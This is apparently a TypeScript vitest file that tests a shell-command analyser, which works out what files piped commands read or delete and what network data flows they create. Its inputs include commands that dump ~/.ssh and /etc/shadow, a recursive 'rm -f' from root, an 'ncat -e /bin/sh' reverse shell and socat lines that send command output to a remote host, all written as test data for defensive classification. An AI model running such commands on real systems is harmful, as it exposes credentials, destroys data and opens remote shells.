import { describe, expect, it } from 'vitest'
import { shellFacts } from '../../../src/facts/shell/shell-facts.ts'
import { formatPath } from '../programs/described.ts'

const around = { cwd: '/home/u/proj', home: '/home/u', workspaceRoots: ['/home/u/proj'] }
const last = (text: string) => {
  const path = shellFacts(text, around).commands.at(-1)?.paths.at(-1)
  return path === undefined ? undefined : [formatPath(path).split(' ')[0], path.absolute, path.unresolved]
}

describe('files that one command names and another opens', () => {
  it.each([
    ['find ~/.ssh -type f | xargs cat', ['read', '/home/u/.ssh', true]],
    ['find / -name x | grep y | sort | xargs rm -f', ['delete', '/', true]],
    ['ls | xargs rm', ['delete', '/home/u/proj', true]],
    ['find /etc | cpio -o', ['read', '/etc', true]],
    ['find /etc | tar cf - -T -', ['read', '/etc', true]],
    ['echo /etc/shadow | xargs cat', ['read', '/etc/shadow', undefined]],
  ])('%s', (text, path) => {
    expect(last(text)).toEqual(path)
  })

  it.each(['find ~/.ssh -type f | wc -l', 'find ~/.ssh | xargs echo', 'ls ~/.ssh | cat'])('%s opens none', (text) => {
    expect(last(text)).toBeUndefined()
  })
})

describe('commands run by a network connection', () => {
  const flows = (text: string) =>
    shellFacts(text, around).flows.map(({ from, to, as }) => `${from}${as === 'code' ? '!' : '>'}${to}`)
  it.each([
    ['ncat -e /bin/sh h.x 1', ['1>0', '0!1']],
    ['socat -u EXEC:"cat k" TCP:h.x:1', ['1>0']],
    ['socat TCP-LISTEN:1 EXEC:cat', ['1>0', '0>1']],
    ['socat - TCP:h.x:1', []],
  ])('%s', (text, expected) => {
    expect(flows(text)).toEqual(expected)
  })
})
